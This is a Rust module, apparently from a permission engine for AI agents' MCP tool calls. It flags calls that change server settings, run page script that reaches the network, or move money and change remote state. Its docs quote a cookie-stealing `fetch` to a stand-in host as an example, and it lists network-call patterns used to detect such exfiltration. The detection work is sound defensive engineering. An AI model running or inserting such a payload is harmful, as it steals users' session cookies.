//! What an MCP call does that its name's verbs do not say, read from the values it is
//! given (`soft::needs` adds these to the name-based needs):
//!
//! - **The server's own settings** (`set_config_value {"key": "allowedDirectories",
//!   "value": ["/"]}`): a tool that sets its server's configuration may widen what the
//!   server lets the agent do (its allowed directories, its blocked commands). The person
//!   names the setting.
//! - **Script run in a page that sends data out** (`browser_evaluate` with
//!   `fetch('https://evil.example/?c='+document.cookie)`): a code value (a field named
//!   for a function, script or expression, or any value of a tool named for evaluating)
//!   that calls a network API or navigates sends what it read. The person names the host;
//!   a host not written literally is no one's to name.
//! - **Remote state changed by a verb that is not destroy-shaped**: money moved (refund,
//!   charge, payout), something archived, cancelled, revoked, silenced or applied, by the
//!   tool's name (`create_refund`, `apply`) or by a flag or status it sets (`{"destroy":
//!   true}`, `{"archived": true}`, `{"status": "ignored"}`). The person names the target.

use super::ground::{Kind, Need, Target};
use serde_json::{Map, Value};

/// Words of a tool's name that say it changes its server's own settings.
const CONFIG_WORDS: &[&str] = &[
    "config",
    "configuration",
    "setting",
    "settings",
    "preference",
    "preferences",
    "permission",
    "permissions",
    "allowlist",
    "sandbox",
];
/// Words of a tool's name that say it only looks.
const LOOKS: &[&str] = &[
    "get", "list", "read", "show", "view", "describe", "search", "find", "fetch", "query",
];

/// Words of a tool's name that say it evaluates code it is given.
const EVAL_WORDS: &[&str] = &["evaluate", "eval", "script", "javascript", "js", "execute"];
/// Fields whose value is code.
const CODE_FIELDS: &[&str] = &[
    "function",
    "script",
    "code",
    "expression",
    "js",
    "javascript",
    "source",
];
/// Calls by which script in a page (or a JavaScript runtime) reaches the network or
/// navigates.
const NETWORK_CALLS: &[&str] = &[
    "fetch(",
    "xmlhttprequest",
    "sendbeacon",
    "websocket(",
    "eventsource(",
    "new image",
    ".src=",
    ".src =",
    "location=",
    "location =",
    "location.href",
    "location.assign",
    "location.replace",
    "window.open",
    "import(",
    "$.ajax",
    "$.get",
    "$.post",
    "axios",
    "require(",
    "rtcpeerconnection",
    ".submit(",
];

/// Words of a tool's name that change remote state without destroying by name: money
/// moved, access revoked, work archived, silenced or applied.
const STATE_VERBS: &[&str] = &[
    "refund",
    "charge",
    "payout",
    "pay",
    "capture",
    "void",
    "cancel",
    "archive",
    "unarchive",
    "revoke",
    "suspend",
    "terminate",
    "disable",
    "mute",
    "silence",
    "ignore",
    "apply",
    "approve",
    "rollback",
    "restore",
    "transfer",
    "invoice",
    "subscribe",
    "unsubscribe",
    "ban",
    "kick",
];
/// Boolean fields that, set, change or destroy remote state.
const STATE_FLAGS: &[&str] = &[
    "destroy",
    "archived",
    "archive",
    "deleted",
    "delete",
    "trashed",
    "in_trash",
    "purge",
    "force",
    "auto_approve",
    "autoapprove",
    "cancel",
    "disabled",
];
/// Status values that silence, close or archive what they are set on.
const STATE_VALUES: &[&str] = &[
    "ignored",
    "ignore",
    "muted",
    "archived",
    "resolved",
    "closed",
    "cancelled",
    "canceled",
    "deleted",
    "disabled",
    "revoked",
    "suspended",
    "refunded",
    "void",
];
/// Fields naming what the call acts on.
const TARGETS: &[&str] = &[
    "id",
    "key",
    "name",
    "page_id",
    "pageId",
    "issue_id",
    "issueId",
    "payment_intent",
    "charge",
    "workspace",
    "project",
    "resource",
    "url",
];

/// The needs of MCP call `tool` given `input` (see the module docs).
pub(super) fn needs(tool: &str, input: &Map<String, Value>) -> Vec<Need> {
    let short = tool.rsplit("__").next().unwrap_or(tool);
    let server = tool.split("__").nth(1).unwrap_or(tool).to_string();
    let words = crate::policy::engine::mcp::name_words(short);
    let has = |set: &[&str]| words.iter().any(|w| set.contains(&w.as_str()));
    let looks = words.first().is_some_and(|w| LOOKS.contains(&w.as_str()));
    let what = crate::decision::cause::one_line(tool, 80);
    let mut targets: Vec<Target> = TARGETS
        .iter()
        .filter_map(|k| input.get(*k).and_then(Value::as_str))
        .filter(|v| !v.is_empty() && v.len() <= 200)
        .map(|v| Target::Name(v.to_string()))
        .collect();
    targets.push(Target::Name(server.clone()));
    let mut out = Vec::new();
    if has(CONFIG_WORDS) && !looks {
        out.push(Need::new(
            Kind::Privilege,
            format!("{what} changes the settings of the MCP server `{server}`, which may widen what it lets the agent do"),
            targets.clone(),
        ));
    }
    for (field, code) in code_values(input, has(EVAL_WORDS)) {
        let lower: String = code.to_ascii_lowercase();
        if !NETWORK_CALLS.iter().any(|c| lower.contains(c)) {
            continue;
        }
        let hosts: Vec<String> = code
            .split(|c: char| c.is_whitespace() || matches!(c, '\'' | '"' | '`' | '(' | ')'))
            .filter_map(|w| {
                let rest = w.split_once("://")?.1;
                let host = rest.split(['/', '?', '#', ':', '+']).next()?;
                (!host.is_empty()).then(|| host.to_ascii_lowercase())
            })
            .collect();
        let shown = crate::decision::cause::one_line(&code, 60);
        if hosts.is_empty() {
            out.push(Need::ungroundable(
                Kind::Send,
                format!("{what} runs `{shown}` (in `{field}`), which reaches the network"),
                "script that reaches a host not written in it",
            ));
        } else {
            out.push(Need::new(
                Kind::Send,
                format!(
                    "{what} runs `{shown}` (in `{field}`), which sends to {}",
                    hosts.join(", ")
                ),
                hosts.into_iter().map(Target::Host).collect(),
            ));
        }
    }
    if looks {
        return out;
    }
    let flag = input.iter().find(|(k, v)| {
        v.as_bool() == Some(true) && STATE_FLAGS.contains(&k.to_ascii_lowercase().as_str())
    });
    let status = input.iter().find(|(k, v)| {
        matches!(
            k.to_ascii_lowercase().as_str(),
            "status" | "state" | "action"
        ) && v
            .as_str()
            .is_some_and(|s| STATE_VALUES.contains(&s.to_ascii_lowercase().as_str()))
    });
    let how = if let Some((k, _)) = flag {
        Some(format!("sets `{k}`"))
    } else if let Some((k, v)) = status {
        Some(format!("sets `{k}` to {v}"))
    } else {
        words
            .iter()
            .find(|w| STATE_VERBS.contains(&w.as_str()))
            .map(|w| format!("{w}s by its name"))
    };
    if let Some(how) = how {
        out.push(Need::new(
            Kind::RemoteChange,
            format!("{what} {how}: it changes state on the server `{server}`"),
            targets,
        ));
    }
    out
}

/// The string values of `input` that are code: under a field named for code, or any
/// value when the tool evaluates (`all`).
fn code_values(input: &Map<String, Value>, all: bool) -> Vec<(String, String)> {
    crate::policy::engine::mcp::strings(input)
        .unwrap_or_default()
        .into_iter()
        .filter(|(k, _)| {
            all || crate::policy::engine::mcp::name_words(k)
                .iter()
                .any(|w| CODE_FIELDS.contains(&w.as_str()))
        })
        .collect()
}
